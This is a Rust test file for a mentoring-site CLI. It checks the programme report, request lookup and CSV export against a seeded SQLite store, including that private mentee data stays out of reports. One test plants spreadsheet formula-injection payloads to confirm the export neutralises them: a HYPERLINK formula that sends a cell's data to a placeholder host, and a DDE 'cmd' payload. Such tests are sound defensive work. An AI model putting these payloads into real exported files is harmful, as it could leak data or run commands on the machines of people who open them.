//! `mentorsite requests report`: the programme manager's page, made from a real SQLite file.

mod common;

use common::Site;
use mentorsite::requests::Status;
use mentorsite::requests::store::{Store, StoredRequest, Transition};

fn at(s: &str) -> i64 {
    s.parse::<jiff::Timestamp>().unwrap().as_second()
}

fn request(id: &str, mentor: &str, created: &str) -> StoredRequest {
    StoredRequest {
        id: id.into(),
        created_at: at(created),
        mentor: mentor.into(),
        name: format!("Mentee Person {id}"),
        email: format!("mentee-{id}@private.example.net"),
        mode: "video".into(),
        message: format!("A private message number {id}"),
        status: Status::Pending,
        respond_by: "2026-01-01".into(),
    }
}

/// Seven requests to the doctors fixture's mentors, in every state.
fn seed(site: &Site) {
    std::fs::create_dir_all(site.path("data")).unwrap();
    let store = Store::open(&site.path("data/requests.sqlite")).unwrap();
    let rows = [
        ("r1", "dr-ada-bundle", "2026-09-07T10:00:00Z"),
        ("r2", "dr-ada-bundle", "2026-09-11T10:00:00Z"),
        ("r3", "bob-crlf", "2026-10-01T10:00:00Z"),
        ("r4", "bob-crlf", "2026-10-02T10:00:00Z"),
        ("r5", "a-mentor-since-removed", "2026-10-05T10:00:00Z"),
        ("r6", "dr-ada-bundle", "2026-11-02T10:00:00Z"),
        ("r7", "bob-crlf", "2026-11-20T10:00:00Z"),
    ];
    for (id, mentor, created) in rows {
        store
            .insert(&request(id, mentor, created), &[], 0, |_| None::<()>)
            .unwrap()
            .unwrap();
    }
    let answer = |id, to, when| {
        assert_eq!(
            store
                .answer(id, to, None, &format!("token-{id}"), &[], at(when))
                .unwrap(),
            Transition::Done
        );
    };
    answer("r1", Status::Accepted, "2026-09-09T10:00:00Z");
    answer("r2", Status::Declined, "2026-09-14T08:00:00Z");
    answer("r6", Status::Accepted, "2026-11-02T15:00:00Z");
    for id in ["r3", "r4", "r5"] {
        assert!(store.lapse(id, &[], at("2026-11-01T00:00:00Z")).unwrap());
    }
    assert_eq!(
        store
            .withdraw("r6", &[], at("2026-11-05T00:00:00Z"))
            .unwrap(),
        Transition::Done
    );
}

#[test]
fn the_report_charts_the_requests_and_names_no_mentee() {
    let site = Site::fixture("doctors");
    seed(&site);
    let out = site.path("report.html");
    let run = site.run(&["requests", "report", "--output", out.to_str().unwrap()]);
    run.assert_code(0);
    assert!(
        run.stdout.contains("(7 requests)") && run.stdout.contains("do not publish it"),
        "{}",
        run.stdout
    );
    let html = std::fs::read_to_string(&out).unwrap();
    assert_eq!(
        html.matches("<svg role=\"img\"").count(),
        6,
        "four charts of requests, two after the match"
    );
    assert!(
        html.contains("<th scope=\"row\">Bob Crlf</th><td>2</td>"),
        "by name"
    );
    assert!(
        html.contains("<th scope=\"row\">a-mentor-since-removed</th><td>1</td>"),
        "a removed mentor by file name"
    );
    assert!(html.contains("<strong>14%</strong> accepted"), "1 of 7");
    assert!(html.contains("<strong>43%</strong> lapsed"), "3 of 7");
    for private in [
        "Mentee Person",
        "mentee-r",
        "private message",
        "private.example",
    ] {
        assert!(!html.contains(private), "{private} in the report");
    }
}

#[test]
fn report_without_a_database_says_no_request_yet() {
    let site = Site::fixture("doctors");
    let run = site.run(&["requests", "report"]);
    run.assert_code(2);
    assert!(
        run.stderr.contains("no request database")
            && run.stderr.contains("no request has been received"),
        "{}",
        run.stderr
    );
}

#[test]
fn the_csv_export_never_hands_a_spreadsheet_a_formula() {
    let site = Site::fixture("doctors");
    std::fs::create_dir_all(site.path("data")).unwrap();
    let store = Store::open(&site.path("data/requests.sqlite")).unwrap();
    let mut r = request("r1", "dr-ada-bundle", "2026-11-02T10:00:00Z");
    r.name = "=HYPERLINK(\"https://x.example/?\"&A1,\"Open\")".into();
    r.message = "@SUM(1+1)*cmd|' /C calc'!A0\nsecond line".into();
    store.insert(&r, &[], 0, |_| None::<()>).unwrap().unwrap();
    drop(store);
    let run = site.run(&["requests", "export", "--csv"]);
    run.assert_code(0);
    let mut rows = csv::Reader::from_reader(run.stdout.as_bytes());
    let row = rows.records().next().unwrap().unwrap();
    assert_eq!(&row[5], "'=HYPERLINK(\"https://x.example/?\"&A1,\"Open\")");
    assert_eq!(&row[8], "'@SUM(1+1)*cmd|' /C calc'!A0\nsecond line");
    assert_eq!(
        &row[6], "mentee-r1@private.example.net",
        "plain cells are as typed"
    );
}

#[test]
fn requests_show_speaks_the_admin_s_language_and_takes_a_short_id() {
    let site = Site::fixture("doctors");
    std::fs::create_dir_all(site.path("data")).unwrap();
    let store = Store::open(&site.path("data/requests.sqlite")).unwrap();
    for id in ["4f2a0c9d1e", "4f2b77aa00", "9c0ffee000"] {
        let mut r = request(id, "dr-ada-bundle", "2026-11-02T10:00:00Z");
        r.respond_by = "2026-11-09".into();
        store.insert(&r, &[], 0, |_| None::<()>).unwrap().unwrap();
    }
    store
        .answer(
            "4f2a0c9d1e",
            Status::Declined,
            Some("I am away until March; Dr Bundle may suit you."),
            "token",
            &[],
            at("2026-11-04T15:30:00Z"),
        )
        .unwrap();
    drop(store);
    let shown = site.run(&["requests", "show", "4f2a"]);
    shown.assert_code(0);
    insta::assert_snapshot!("requests_show_declined", shown.stdout);
    assert!(
        !shown.stdout.contains("declined_mentee"),
        "no internal names"
    );
    let pending = site.run(&["requests", "show", "9C0F"]);
    pending.assert_code(0);
    assert!(
        pending
            .stdout
            .contains("Answer by   Monday 9 November 2026"),
        "{}",
        pending.stdout
    );
    let ambiguous = site.run(&["requests", "show", "4f2"]);
    assert_ne!(ambiguous.code, 0);
    assert!(
        ambiguous.stderr.contains(
            "2 requests have ids beginning \"4f2\": 4f2a0c9d1e, 4f2b77aa00. Type more of the id."
        ),
        "{}",
        ambiguous.stderr
    );
    let none = site.run(&["requests", "show", "zz%"]);
    assert_ne!(none.code, 0);
    assert!(
        none.stderr
            .contains("no request with an id beginning \"zz%\""),
        "{}",
        none.stderr
    );
}

/// Matches in every after-the-match state, straight into the store: sessions (one with a
/// concern and a private note), ends of each kind, an extension and feedback.
fn seed_matches(site: &Site) {
    use mentorsite::requests::store::{Ended, Feedback, NewSession, Recorded};
    std::fs::create_dir_all(site.path("data")).unwrap();
    let store = Store::open(&site.path("data/requests.sqlite")).unwrap();
    let ids = ["m1", "m2", "m3", "m4", "m5"];
    for id in ids {
        store
            .insert(
                &request(id, "dr-ada-bundle", "2026-09-01T10:00:00Z"),
                &[],
                0,
                |_| None::<()>,
            )
            .unwrap()
            .unwrap();
        // Accepted on Wednesday 2 September (London).
        store
            .answer(
                id,
                Status::Accepted,
                None,
                &format!("accept-{id}"),
                &[],
                at("2026-09-02T09:00:00Z"),
            )
            .unwrap();
    }
    let mut n = 0;
    let mut record = |id: &str, day: &str, concern: bool| {
        n += 1;
        let s = NewSession {
            held_on: day.into(),
            minutes: 60,
            mode: "video".into(),
            note: concern.then(|| "A private worry about the mentee".to_string()),
            concern,
        };
        let done = store
            .record_session(
                id,
                &s,
                &format!("form-{n}"),
                4,
                &[],
                &[],
                at("2026-10-01T09:00:00Z"),
            )
            .unwrap();
        assert!(matches!(done, Recorded::Done { .. }), "{id} {day}");
    };
    // m1: four sessions, the first 5 days after the match; used up.
    for day in ["2026-09-07", "2026-09-21", "2026-10-05", "2026-10-19"] {
        record("m1", day, false);
    }
    // m2: two sessions (a concern in the second), first after 12 days; the mentor finished.
    record("m2", "2026-09-14", false);
    record("m2", "2026-09-28", true);
    // m3: one session after 30 days, then the window ended.
    record("m3", "2026-10-02", false);
    // m4: none yet, still running. m5: one session after 2 days, ended, extended, running.
    record("m5", "2026-09-04", false);
    let t = at("2026-11-01T09:00:00Z");
    assert_eq!(
        store.finish("m2", Ended::Mentor, None, &[], t).unwrap(),
        Transition::Done
    );
    assert!(store.end_window("m3", &[], t).unwrap());
    // m5 ends and is extended (only a completed match can be), so it runs again.
    assert_eq!(
        store.finish("m5", Ended::Mentor, None, &[], t).unwrap(),
        Transition::Done
    );
    assert_eq!(
        store.extend("m5", "2027-06-01", 4, 4, &[], t).unwrap(),
        Transition::Done
    );
    for (id, helpful) in [("m1", 5), ("m2", 3)] {
        let f = Feedback {
            helpful,
            helped: Some("A private word of thanks".into()),
            more_sessions: true,
            another_mentor: false,
            given_at: 0,
        };
        assert_eq!(
            store.give_feedback(id, 0, &f, &[], t).unwrap(),
            Transition::Done
        );
    }
}

#[test]
fn the_report_counts_sessions_ends_extensions_feedback_and_concerns() {
    let site = Site::fixture("doctors");
    seed_matches(&site);
    let out = site.path("report.html");
    site.run(&["requests", "report", "--output", out.to_str().unwrap()])
        .assert_code(0);
    let html = std::fs::read_to_string(&out).unwrap();
    let section = &html[html.find("<h2>After the match</h2>").expect("the section")..];
    for (figure, label) in [
        ("5", "matches"),
        ("2", "running"),
        ("3", "completed"),
        ("1", "extended"),
        ("1", "ended early"),
        // First sessions after 5, 12, 30 and 2 days: the median of four is the second.
        ("5", "median days to a first session"),
        ("4.0 of 5", "mean feedback score (2 given)"),
        ("1", "concerns raised"),
    ] {
        assert!(
            section.contains(&format!("<li><strong>{figure}</strong> {label}</li>")),
            "{figure} {label}:\n{section}"
        );
    }
    // Matches by sessions held: one with none, two with one, one with two, one with four.
    for (label, n) in [
        ("0 sessions", 1),
        ("1 session", 2),
        ("2 sessions", 1),
        ("3 sessions", 0),
        ("4 sessions", 1),
    ] {
        assert!(
            section.contains(&format!("<th scope=\"row\">{label}</th><td>{n}</td>")),
            "{label}: {n}"
        );
    }
    for (label, n) in [
        ("Within a week", 2),
        ("8–14 days", 1),
        ("More than 28 days", 1),
    ] {
        assert!(
            section.contains(&format!("<th scope=\"row\">{label}</th><td>{n}</td>")),
            "{label}: {n}"
        );
    }
    for (label, n) in [
        ("The sessions offered were used", 1),
        ("The window ended", 1),
        ("Ended early by the mentor or the mentee", 1),
    ] {
        assert!(
            section.contains(&format!("<th scope=\"row\">{label}</th><td>{n}</td>")),
            "{label}: {n}"
        );
    }
    assert!(
        section.contains("<th scope=\"row\">5</th><td>1</td>"),
        "a 5"
    );
    assert!(
        section.contains("<th scope=\"row\">3</th><td>1</td>"),
        "a 3"
    );
    for private in ["A private worry", "A private word", "Mentee Person"] {
        assert!(!html.contains(private), "{private} in the report");
    }

    // list, show and export show the sessions and the feedback.
    let list = site.run(&["requests", "list"]);
    assert!(list.stdout.contains("4/4"), "{}", list.stdout);
    assert!(list.stdout.contains("1/8"), "extended: {}", list.stdout);
    let shown = site.run(&["requests", "show", "m2"]);
    shown.assert_code(0);
    insta::assert_snapshot!("requests_show_match", shown.stdout);
    assert!(
        shown.stdout.contains("Sessions    2 of 4")
            && shown.stdout.contains("CONCERN RAISED")
            && shown.stdout.contains("A private worry about the mentee")
            && shown
                .stdout
                .contains("Ended       the mentor said they had finished")
            && shown.stdout.contains("Feedback    3 of 5"),
        "{}",
        shown.stdout
    );
    let export = site.run(&["requests", "export", "--csv"]);
    let mut rows = csv::Reader::from_reader(export.stdout.as_bytes());
    let head = rows.headers().unwrap().clone();
    assert_eq!(&head[9], "sessions_held");
    let m1 = rows
        .records()
        .map(Result::unwrap)
        .find(|r| &r[0] == "m1")
        .unwrap();
    assert_eq!(&m1[9], "4");
    assert_eq!(&m1[11], "sessions_used");
    assert_eq!(&m1[13], "5");
    assert!(
        !export.stdout.contains("A private worry"),
        "notes stay out of the CSV"
    );
}
